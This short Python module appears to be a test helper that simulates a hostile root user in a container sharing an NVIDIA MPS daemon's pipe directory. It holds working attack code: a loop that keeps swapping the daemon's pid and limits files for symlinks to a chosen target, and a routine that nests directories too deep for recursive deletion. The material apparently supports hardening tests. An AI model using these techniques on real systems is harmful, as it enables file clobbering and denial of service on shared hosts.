"""Root in a container of an MPS client, which fills the daemon's pipe directory. Its working directory is that one."""

from __future__ import annotations

import contextlib
import os
from pathlib import Path


def plants_links(target: str) -> None:
    """Replace the files of a daemon by links to a file, again and again."""
    print("ready", flush=True)
    while True:
        for name in ("nvidia-cuda-mps-control.pid", "limits"):
            with contextlib.suppress(OSError):
                Path(name).unlink()
            with contextlib.suppress(OSError):
                Path(name).symlink_to(target)


def nests_directories(depth: int) -> None:
    """Make directories so deep that a recursion cannot remove them."""
    for _ in range(depth):
        Path("a").mkdir()
        os.chdir("a")
